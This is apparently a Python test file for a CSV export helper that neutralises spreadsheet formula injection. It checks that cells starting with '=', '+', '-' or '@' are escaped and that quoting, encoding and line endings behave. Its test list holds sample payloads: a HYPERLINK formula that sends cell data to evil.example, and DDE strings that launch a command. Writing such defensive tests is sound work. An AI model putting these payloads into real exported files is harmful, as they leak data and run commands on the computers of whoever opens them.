"""What is opened in a spreadsheet is read, never run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.safe_csv import safe_csv


def read_back(written: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+447700900111",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
    ],
)
def test_words_that_a_spreadsheet_would_run_are_words(attack: str) -> None:
    ((cell,),) = read_back(safe_csv([[attack]]))
    assert cell == f"'{attack}"


def test_numbers_below_nothing_stay_numbers() -> None:
    assert read_back(safe_csv([[-1, -0.5, 7]])) == [["-1", "-0.5", "7"]]


def test_commas_quotes_and_lines_stay_in_their_cell() -> None:
    row = ["a, b", 'she said "yes"', "two\r\nlines"]
    assert read_back(safe_csv([row])) == [row]


def test_a_spreadsheet_knows_it_is_utf_8_and_lines_end_as_the_standard_says() -> None:
    written = safe_csv([["Zoë", None], ["a", 1]])
    assert written.startswith(b"\xef\xbb\xbf")
    assert written.endswith(b"a,1\r\n")
    assert read_back(written)[0] == ["Zoë", ""]


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1), min_size=1))
def test_no_cell_ever_begins_a_formula(rows: list[list[str]]) -> None:
    for row, told in zip(rows, read_back(safe_csv(rows)), strict=True):
        assert len(told) == len(row)
        assert not any(cell.lstrip()[:1] in {"=", "+", "-", "@"} and cell for cell in told)
